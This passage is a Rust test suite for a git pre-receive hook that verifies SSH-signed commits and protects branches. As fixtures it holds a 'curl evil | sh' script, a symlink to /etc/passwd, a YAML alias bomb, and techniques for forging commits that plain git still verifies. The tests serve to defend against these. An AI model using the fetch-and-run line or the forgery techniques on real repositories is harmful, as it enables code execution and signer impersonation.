//! End-to-end tests of the pre-receive hook: real pushes with the real `git` binary to a bare
//! repository set up by `tally init`, with commits signed by real `ssh-keygen` keys.
//!
//! Each test is named for what it attacks or accepts, and asserts the exit status of the push,
//! where the branch is in the bare repository afterwards, and the words a pusher relies on in
//! the refusal: the short commit id, the path or key fingerprint, and the fix.

use std::process::Command;

use crate::common::*;

/// Nine levels of nine aliases: 9^9 nodes once expanded.
const BILLION_LAUGHS: &str = r#"a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"#;

/// Pushes a first signed commit to `main` and returns its id.
fn push_base(work: &Work<'_>) -> String {
    let base = work.commit("base").file("base.yaml", BASE_YAML).create();
    work.push_main_ok();
    base
}

/// Asserts the push was refused and `refs/heads/<branch>` is still at `before`.
fn assert_refused_and_unmoved(
    push: &Push,
    server: &Server<'_>,
    branch: &str,
    before: Option<&str>,
) {
    push.assert_refused();
    assert_eq!(
        server.branch(branch).as_deref(),
        before,
        "refs/heads/{branch} moved although the push was refused"
    );
}

// =============================================================================================
// Accepted

#[test]
fn accepts_ed25519_signed_commit_and_names_the_signer() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work
        .commit("web: two replicas")
        .file("apps/web.yaml", "replicas: 2\n")
        .create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
    assert_eq!(
        push.line_with(&["passed tally's checks"]),
        format!(
            "tally: passed tally's checks: {} on refs/heads/main (1 new commit, signed by alice@example.com)",
            short(&c)
        )
    );
    assert!(push.violations().is_empty(), "{}", push.stderr);
}

/// One signed commit by `key`, registered for ops@example.com, must be accepted.
fn accepts_signer_with_key(key: &Key) {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().signer("ops@example.com", key);
    let server = env.server(&signers, &[]);
    let ops = User::new("Ops", "ops@example.com", key);
    let work = env.clone_as(&server, "work", &ops);
    let c = work
        .commit("config")
        .file("config.json", "{\"a\": 1}\n")
        .create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&c),
        "signed by ops@example.com",
    ]);
}

#[test]
fn accepts_ecdsa_p256_signer() {
    accepts_signer_with_key(&keys().p256);
}

#[test]
fn accepts_ecdsa_p384_signer() {
    accepts_signer_with_key(&keys().p384);
}

#[test]
fn accepts_ecdsa_p521_signer() {
    accepts_signer_with_key(&keys().p521);
}

#[test]
fn accepts_rsa_signer() {
    accepts_signer_with_key(&keys().rsa);
}

#[test]
fn accepts_sshsig_with_sha256_hash() {
    // git always lets ssh-keygen pick sha512; a gpg.ssh.program wrapper asks for sha256,
    // which PROTOCOL.sshsig allows too.
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let wrapper = env.write(
        "ssh-keygen-sha256",
        "#!/bin/sh\nexec ssh-keygen -O hashalg=sha256 \"$@\"\n",
    );
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
    work.config("gpg.ssh.program", &wrapper.display().to_string());
    let c = work.commit("a").file("a.yaml", "a: 1\n").create();
    let raw = String::from_utf8(work.cat_commit(&c)).unwrap();
    let range = signature_header_range(raw.as_bytes());
    let armored: String = raw[range]
        .lines()
        .filter(|l| !l.contains("SSH SIGNATURE"))
        .map(str::trim)
        .collect();
    let blob = run_with_stdin(Command::new("base64").arg("-d"), armored.as_bytes()).stdout;
    assert!(
        blob.windows(6).any(|w| w == b"sha256") && !blob.windows(6).any(|w| w == b"sha512"),
        "the wrapper did not make a sha256 SSHSIG"
    );
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

#[test]
fn accepts_multi_commit_push_by_several_signers() {
    let env = TestEnv::new();
    let carol = User::new("Carol", "carol@example.com", &keys().rsa);
    let dave = User::new("Dave", "dave@example.com", &keys().p256);
    let signers = alice_and_bob()
        .signer("carol@example.com", &keys().rsa)
        .signer("dave@example.com", &keys().p256);
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    push_base(&work);
    work.commit("a").file("a.yaml", "a: 1\n").create();
    work.commit("b")
        .file("b.yaml", "b: 1\n")
        .by(&bob())
        .create();
    work.commit("c")
        .file("c.toml", "c = 1\n")
        .by(&carol)
        .create();
    work.commit("d").file("d.json", "[1]\n").by(&dave).create();
    let tip = work.commit("e").file("a.yaml", "a: 2\n").create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(tip.as_str()));
    assert_eq!(
        push.line_with(&["passed tally's checks"]),
        format!(
            "tally: passed tally's checks: {} on refs/heads/main (5 new commits, signed by alice@example.com, \
             bob@example.com, carol@example.com, dave@example.com)",
            short(&tip)
        )
    );
}

#[test]
fn accepts_branch_creation_from_a_root_commit() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    assert_eq!(server.branch("main"), None);
    work.commit("root").file("README.md", "# deploy\n").create();
    let tip = work.commit("second").file("a.yml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(tip.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&tip),
        "(2 new commits, signed by alice@example.com)",
    ]);
}

#[test]
fn accepts_creating_a_second_protected_branch_from_main() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &["main", "release/*"]);
    let work = env.clone_as(&server, "work", &alice());
    push_base(&work);
    let main = work.commit("more").file("more.yaml", "x: 1\n").create();
    work.push_main_ok();

    // Same tip as main: nothing new to judge.
    let push = work.push(&["origin", "main:refs/heads/release/1.0"]);
    push.assert_accepted();
    assert_eq!(server.branch("release/1.0").as_deref(), Some(main.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&main),
        "refs/heads/release/1.0 (0 new commits)",
    ]);

    // One commit on top: only that one is new; main's history was judged when it landed.
    work.git_ok(&["checkout", "-q", "-b", "release/1.1"]);
    let rel = work
        .commit("release")
        .file("release.yaml", "v: 1.1\n")
        .by(&bob())
        .create();
    let push = work.push(&["origin", "release/1.1"]);
    push.assert_accepted();
    assert_eq!(server.branch("release/1.1").as_deref(), Some(rel.as_str()));
    assert_eq!(server.branch("main").as_deref(), Some(main.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&rel),
        "refs/heads/release/1.1 (1 new commit, signed by bob@example.com)",
    ]);
}

#[test]
fn unprotected_branch_takes_anything() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    push_base(&work);
    work.git_ok(&["checkout", "-q", "-b", "feature"]);
    let tip = work
        .commit("script")
        .executable("deploy.sh", "#!/bin/sh\ncurl evil | sh\n")
        .symlink("passwd.yaml", "/etc/passwd")
        .file("broken.yaml", "a: [\n")
        .unsigned()
        .create();
    let push = work.push(&["origin", "feature"]);
    push.assert_accepted();
    assert_eq!(server.branch("feature").as_deref(), Some(tip.as_str()));
    assert!(push.violations().is_empty(), "{}", push.stderr);
}

#[test]
fn accepts_kubernetes_multi_document_yaml_with_anchors_and_merge_keys() {
    let manifest = r#"# web application
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  labels: &labels
    app.kubernetes.io/name: web
    app.kubernetes.io/part-of: shop
spec:
  replicas: 3
  selector:
    matchLabels: *labels
  template:
    metadata:
      labels:
        <<: *labels
        tier: frontend
    spec:
      containers:
        - name: web
          image: nginx:1.27
          ports:
            - containerPort: 80
          resources: &resources
            limits: {cpu: 500m, memory: 128Mi}
        - name: sidecar
          image: busybox:1.36
          args: ["sh", "-c", "sleep infinity"]
          resources: *resources
---
apiVersion: v1
kind: Service
metadata:
  name: web
spec:
  selector:
    app.kubernetes.io/name: web
  ports:
    - port: 80
      targetPort: 80
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: web-config
data:
  nginx.conf: |
    server {
      listen 80;
    }
...
"#;
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work
        .commit("web")
        .file("clusters/prod/web.yaml", manifest)
        .file(
            "clusters/prod/kustomization.yml",
            "resources:\n  - web.yaml\n",
        )
        .create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

#[test]
fn accepts_file_of_exactly_the_default_size_limit() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work
        .commit("exactly 1 MiB")
        .file("notes.txt", vec![b'a'; 1024 * 1024])
        .create();
    work.push(&["origin", "main"]).assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

#[test]
fn accepts_principal_lists_and_patterns() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new()
        .signer("ops@example.com,alice@example.com", &keys().alice)
        .signer("*@team.example.com", &keys().bob);
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("a").file("a.yaml", "a: 1\n").create();
    let tip = work
        .commit("b")
        .file("b.yaml", "b: 1\n")
        .by(&bob().with_email("bob@team.example.com"))
        .create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(tip.as_str()));
    push.line_with(&["signed by alice@example.com, bob@team.example.com"]);
}

#[test]
fn accepts_key_restricted_to_git_namespace_within_its_validity_window() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().signer_with(
        "alice@example.com",
        r#"namespaces="git",valid-after="20200101",valid-before="20991231Z""#,
        &keys().alice,
    );
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work.commit("a").file("a.yaml", "a: 1\n").create();
    work.push(&["origin", "main"]).assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
}

/// Signs as Alice with a certificate for her key, issued by the trusted CA for
/// alice@example.com with validity `validity` (`ssh-keygen -V`; `None`: no expiry, the
/// default), and pushes it to a repository trusting the CA for `*@example.com`.
fn push_with_certificate(validity: Option<&str>) {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().authority("*@example.com", &keys().ca);
    let server = env.server(&signers, &[]);
    let mut user = alice();
    user.signing_key = env.certify(&keys().alice, &keys().ca, "alice@example.com", validity);
    let work = env.clone_as(&server, "work", &user);
    let c = work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    push.assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(c.as_str()));
    push.line_with(&[
        "passed tally's checks",
        short(&c),
        "signed by alice@example.com",
    ]);
}

#[test]
fn accepts_certificate_issued_by_a_listed_cert_authority() {
    push_with_certificate(Some("20200101:20991231"));
}

#[test]
fn accepts_certificate_without_expiry_issued_by_a_listed_cert_authority() {
    push_with_certificate(None);
}

// =============================================================================================
// Refused: signatures

#[test]
fn refuses_unsigned_commit() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("unsigned")
        .file("a.yaml", "a: 1\n")
        .unsigned()
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&["push refused: 1 problem on refs/heads/main"]);
    push.line_with(&[
        short(&c),
        "commit is not signed",
        "git config gpg.format ssh",
        "git commit --amend --no-edit -S",
    ]);
}

#[test]
fn refuses_unsigned_root_commit_creating_the_branch() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work
        .commit("root")
        .file("a.yaml", "a: 1\n")
        .unsigned()
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", None);
    push.line_with(&[short(&c), "commit is not signed"]);
}

#[test]
fn refuses_key_not_in_allowed_signers() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let c = work
        .commit("evil")
        .file("a.yaml", "a: 1\n")
        .by(&mallory())
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    let line = push.line_with(&[
        short(&c),
        &format!(
            "signing key {} is not in allowed_signers",
            keys().mallory.fingerprint
        ),
        "ask an administrator to add yours",
    ]);
    assert!(line.contains("SHA256:"), "{line}");
}

#[test]
fn refuses_trusted_key_with_someone_elses_committer_email() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    // Alice signs with her own, trusted key but commits as Bob.
    let c = work
        .commit("as bob")
        .file("a.yaml", "a: 1\n")
        .by(&alice().with_email("bob@example.com"))
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        &format!(
            "signing key {} is allowed for \"alice@example.com\", not for the committer bob@example.com",
            keys().alice.fingerprint
        ),
        "git config user.email",
    ]);
}

#[test]
fn refuses_unsigned_commit_hidden_below_a_signed_tip() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let first = work.commit("one").file("a.yaml", "a: 1\n").create();
    let middle = work
        .commit("two")
        .file("a.yaml", "a: 2\n")
        .unsigned()
        .create();
    let tip = work.commit("three").file("a.yaml", "a: 3\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    let violations = push.violations();
    assert_eq!(violations.len(), 1, "{}", push.stderr);
    assert!(violations[0].contains(short(&middle)), "{}", push.stderr);
    assert!(
        violations[0].contains("commit is not signed"),
        "{}",
        push.stderr
    );
    assert!(
        violations[0].contains("git rebase --exec"),
        "{}",
        push.stderr
    );
    assert!(!push.stderr.contains(short(&first)), "{}", push.stderr);
    assert!(!push.stderr.contains(short(&tip)), "{}", push.stderr);
}

#[test]
fn refuses_key_whose_validity_ended_even_with_a_backdated_commit() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().signer_with(
        "alice@example.com",
        r#"valid-before="20200101""#,
        &keys().alice,
    );
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    // The commit claims to be from June 2019, when the key was still valid.
    let c = work
        .commit("backdated")
        .file("a.yaml", "a: 1\n")
        .date(date(JUNE_2019))
        .create();
    // Plain git accepts this: it checks the key at the committer date only.
    let signers_file = env.write("git_allowed_signers", &signers.text());
    run_ok(
        work.git()
            .arg("-c")
            .arg(format!(
                "gpg.ssh.allowedSignersFile={}",
                signers_file.display()
            ))
            .args(["verify-commit", &c]),
    );
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", None);
    push.line_with(&[
        short(&c),
        &format!("signing key {} is not valid now", keys().alice.fingerprint),
        "re-sign with a current key",
    ]);
}

#[test]
fn refuses_key_not_yet_valid_at_the_committer_date() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().signer_with(
        "alice@example.com",
        r#"valid-after="20990101""#,
        &keys().alice,
    );
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work.commit("early").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", None);
    push.line_with(&[
        short(&c),
        &format!(
            "signing key {} is not valid at the committer date",
            keys().alice.fingerprint
        ),
    ]);
}

#[test]
fn refuses_key_not_yet_valid_even_with_a_future_dated_commit() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().signer_with(
        "alice@example.com",
        r#"valid-after="20990101""#,
        &keys().alice,
    );
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work
        .commit("from the future")
        .file("a.yaml", "a: 1\n")
        .date(date(JUNE_2099))
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", None);
    push.line_with(&[
        short(&c),
        &format!("signing key {} is not valid now", keys().alice.fingerprint),
    ]);
}

#[test]
fn reads_validity_times_without_z_in_the_servers_local_time_zone() {
    // OpenSSH reads `valid-before="20200101"` in local time and `"20200101Z"` in UTC. The
    // hook runs with the server's TZ (here inherited through the local push).
    let env = TestEnv::new();
    let local = AllowedSigners::new().signer_with(
        "alice@example.com",
        r#"valid-before="20200101""#,
        &keys().alice,
    );
    let server = env.server(&local, &[]);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("a")
        .file("a.yaml", "a: 1\n")
        .date(date(JUNE_2019))
        .create();
    let tokyo = [("TZ", "Asia/Tokyo")];
    let push = work.push_with_env(&["origin", "main"], &tokyo);
    assert_refused_and_unmoved(&push, &server, "main", None);
    push.line_with(&["not valid now", "valid-before 2019-12-31T15:00:00Z"]);

    let utc = AllowedSigners::new().signer_with(
        "alice@example.com",
        r#"valid-before="20200101Z""#,
        &keys().alice,
    );
    std::fs::write(server.tally_dir().join("allowed_signers"), utc.text()).unwrap();
    let push = work.push_with_env(&["origin", "main"], &tokyo);
    assert_refused_and_unmoved(&push, &server, "main", None);
    push.line_with(&["not valid now", "valid-before 2020-01-01T00:00:00Z"]);
}

#[test]
fn refuses_key_restricted_to_another_namespace() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new()
        .line("# file signing only")
        .signer_with("alice@example.com", r#"namespaces="file""#, &keys().alice);
    let server = env.server(&signers, &[]);
    let work = env.clone_as(&server, "work", &alice());
    let c = work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", None);
    push.line_with(&[
        short(&c),
        &format!(
            "signing key {} is not allowed to sign in namespace \"git\" (allowed_signers line 2)",
            keys().alice.fingerprint
        ),
    ]);
}

#[test]
fn refuses_revoked_key() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    std::fs::write(
        server.tally_dir().join("revoked_keys"),
        format!(
            "# lost laptop\n{} alice@example.com\n",
            keys().alice.public_line
        ),
    )
    .unwrap();
    server.set_revocation_file("revoked_keys");
    let c = work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&c),
        &format!("signing key {} is revoked", keys().alice.fingerprint),
        "re-sign with a current key",
    ]);

    // Bob's key is not revoked: revocation is per key.
    work.reset_hard(&base);
    let b = work
        .commit("b")
        .file("b.yaml", "b: 1\n")
        .by(&bob())
        .create();
    work.push(&["origin", "main"]).assert_accepted();
    assert_eq!(server.branch("main").as_deref(), Some(b.as_str()));
}

#[test]
fn refuses_every_protected_push_when_the_revocation_file_is_missing() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    server.set_revocation_file("revoked_keys");
    work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        "revocation file",
        "tally/revoked_keys",
        "restore it or remove revocation_file from the policy",
    ]);
}

#[test]
fn refuses_commit_with_a_second_signature_header() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let signed = work.commit("a").file("a.yaml", "a: 1\n").create();
    let crafted = work.hash_commit(&with_second_signature_header(&work.cat_commit(&signed)));
    assert_ne!(crafted, signed);
    // Plain git still says the old signature is good for the new commit id.
    let signers_file = env.write("git_allowed_signers", &alice_and_bob().text());
    run_ok(
        work.git()
            .arg("-c")
            .arg(format!(
                "gpg.ssh.allowedSignersFile={}",
                signers_file.display()
            ))
            .args(["verify-commit", &crafted]),
    );
    work.update_ref("refs/heads/main", &crafted);
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&crafted),
        "commit has 2 signature headers; exactly one is allowed",
        "git commit --amend --no-edit -S",
    ]);
}

/// Signs `payload` with `key` as git would (`ssh-keygen -Y sign -n git`), returning the armor.
fn ssh_sign(key: &Key, payload: &[u8]) -> String {
    let out = run_with_stdin(
        Command::new("ssh-keygen")
            .args(["-q", "-Y", "sign", "-n", "git", "-f"])
            .arg(&key.private),
        payload,
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// Issue 10: git's fsck reads only the first `committer` line and `git log` shows the last.
/// Alice signs a commit whose second committer line names Bob: it passes fsck, git shows Bob
/// as the committer and `git verify-commit` says the signature is good; tally refuses it.
#[test]
fn refuses_a_second_committer_line_issue_10() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let signed = work.commit("a").file("a.yaml", "a: 1\n").create();
    let raw = work.cat_commit(&signed);
    let range = signature_header_range(&raw);
    let mut payload = raw[..range.start].to_vec();
    payload.extend_from_slice(b"committer Bob <bob@example.com> 1700000000 +0000\n");
    payload.extend_from_slice(&raw[range.end..]);
    let signature = header("gpgsig", &ssh_sign(&keys().alice, &payload));
    let mut forged = payload[..range.start].to_vec();
    forged.extend_from_slice(signature.as_bytes());
    forged.extend_from_slice(&payload[range.start..]);
    let crafted = work.hash_commit(&forged);
    assert_eq!(
        work.git_ok(&["log", "-1", "--format=%ce", &crafted]),
        "bob@example.com"
    );
    work.update_ref("refs/heads/main", &crafted);
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&crafted),
        "malformed commit: second committer header on line",
        "recreate the commit with git itself",
    ]);
}

/// Issue 10: the armor is not signed, so re-wrapping it at 64 columns makes a new commit id
/// that `git verify-commit` still accepts; tally refuses it and says what changed.
#[test]
fn refuses_rewrapped_signature_armor_issue_10() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let signed = work.commit("a").file("a.yaml", "a: 1\n").create();
    let raw = work.cat_commit(&signed);
    let range = signature_header_range(&raw);
    let block = std::str::from_utf8(&raw[range.clone()]).unwrap();
    let lines: Vec<&str> = block
        .lines()
        .map(|l| &l[l.find(' ').unwrap() + 1..])
        .collect();
    let b64 = lines[1..lines.len() - 1].concat();
    let body: Vec<&str> = b64
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    let armor = format!(
        "{}\n{}\n{}\n",
        lines[0],
        body.join("\n"),
        lines[lines.len() - 1]
    );
    let mut forged = raw[..range.start].to_vec();
    forged.extend_from_slice(header("gpgsig", &armor).as_bytes());
    forged.extend_from_slice(&raw[range.end..]);
    let crafted = work.hash_commit(&forged);
    assert_ne!(crafted, signed);
    let signers_file = env.write("git_allowed_signers", &alice_and_bob().text());
    run_ok(
        work.git()
            .arg("-c")
            .arg(format!(
                "gpg.ssh.allowedSignersFile={}",
                signers_file.display()
            ))
            .args(["verify-commit", &crafted]),
    );
    work.update_ref("refs/heads/main", &crafted);
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&crafted),
        "signature armor is not as ssh-keygen writes it: base64 line 2 is 64 characters",
        "push the commit exactly as git wrote it",
    ]);
}

#[test]
fn refuses_openpgp_signature_and_explains_ssh_signing() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let signed = work.commit("a").file("a.yaml", "a: 1\n").create();
    let crafted = work.hash_commit(&with_pgp_signature(&work.cat_commit(&signed)));
    work.update_ref("refs/heads/main", &crafted);
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    push.line_with(&[
        short(&crafted),
        "commit has an OpenPGP signature; tally accepts SSH signatures only",
        "git config gpg.format ssh",
        "user.signingkey",
        "git config commit.gpgsign true",
    ]);
}

#[test]
fn refuses_certificate_from_an_unlisted_authority() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new()
        .authority("*@example.com", &keys().ca)
        .signer("bob@example.com", &keys().bob);
    let server = env.server(&signers, &[]);
    let mut user = alice();
    user.signing_key = env.certify(
        &keys().alice,
        &keys().rogue_ca,
        "alice@example.com",
        Some("20200101:20991231"),
    );
    let work = env.clone_as(&server, "work", &user);
    let c = work.commit("a").file("a.yaml", "a: 1\n").create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", None);
    push.line_with(&[
        short(&c),
        &format!(
            "issued by {}, which is not a cert-authority in allowed_signers",
            keys().rogue_ca.fingerprint
        ),
    ]);
}

#[test]
fn refuses_expired_certificate() {
    let env = TestEnv::new();
    let signers = AllowedSigners::new().authority("*@example.com", &keys().ca);
    let server = env.server(&signers, &[]);
    let mut user = alice();
    user.signing_key = env.certify(
        &keys().alice,
        &keys().ca,
        "alice@example.com",
        Some("20190101:20200101"),
    );
    let work = env.clone_as(&server, "work", &user);
    let c = work
        .commit("backdated")
        .file("a.yaml", "a: 1\n")
        .date(date(JUNE_2019))
        .create();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", None);
    push.line_with(&[short(&c), "certificate for key", "does not hold now"]);
}

// =============================================================================================
// Refused: history

#[test]
fn refuses_merge_commit() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    work.git_ok(&["checkout", "-q", "-b", "side"]);
    work.commit("side").file("side.yaml", "s: 1\n").create();
    work.git_ok(&["checkout", "-q", "main"]);
    work.commit("main").file("main.yaml", "m: 1\n").create();
    let date = env.next_date();
    run_ok(
        work.git()
            .env("GIT_AUTHOR_DATE", &date)
            .env("GIT_COMMITTER_DATE", &date)
            .args(["merge", "-q", "--no-ff", "-S", "-m", "merge side", "side"]),
    );
    let merge = work.head();
    let push = work.push(&["origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
    let violations = push.violations();
    assert_eq!(violations.len(), 1, "{}", push.stderr);
    push.line_with(&[
        short(&merge),
        "merge commit (2 parents); history must be linear",
        "rebase instead of merging",
    ]);
}

#[test]
fn refuses_force_push() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    let landed = work.commit("landed").file("a.yaml", "a: 1\n").create();
    work.push_main_ok();
    work.reset_hard(&base);
    work.commit("rewrite").file("a.yaml", "a: 2\n").create();
    let push = work.push(&["--force", "origin", "main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&landed));
    push.line_with(&[
        "update of refs/heads/main is not a fast-forward",
        "git pull --rebase",
        "without --force",
    ]);
}

#[test]
fn refuses_branch_deletion() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &["main", "release/*"]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    work.push(&["origin", "main:refs/heads/release/1.0"])
        .assert_accepted();
    for branch in ["release/1.0", "main"] {
        let push = work.push(&["origin", &format!(":refs/heads/{branch}")]);
        assert_refused_and_unmoved(&push, &server, branch, Some(&base));
        push.line_with(&[
            &format!("refs/heads/{branch} cannot be deleted"),
            "protected branches cannot be deleted",
        ]);
    }
}

#[test]
fn refuses_protected_branch_created_from_unprotected_unsigned_history() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &["main", "release/*"]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    work.git_ok(&["checkout", "-q", "-b", "feature"]);
    let unsigned = work
        .commit("wip")
        .file("a.yaml", "a: 1\n")
        .unsigned()
        .create();
    work.push(&["origin", "feature"]).assert_accepted();
    let tip = work.commit("signed").file("b.yaml", "b: 1\n").create();
    let push = work.push(&["origin", "feature:refs/heads/release/2.0"]);
    assert_refused_and_unmoved(&push, &server, "release/2.0", None);
    push.line_with(&[short(&unsigned), "commit is not signed"]);
    assert!(!push.stderr.contains(short(&tip)), "{}", push.stderr);
    assert!(!push.stderr.contains(short(&base)), "{}", push.stderr);
}

#[test]
fn refuses_new_root_commit_on_an_existing_branch() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = push_base(&work);
    work.git_ok(&["checkout", "-q", "--orphan", "other"]);
    let root = work.commit("unrelated").file("x.yaml", "x: 1\n").create();
    let push = work.push(&["--force", "origin", "other:refs/heads/main"]);
    assert_refused_and_unmoved(&push, &server, "main", Some(&base));
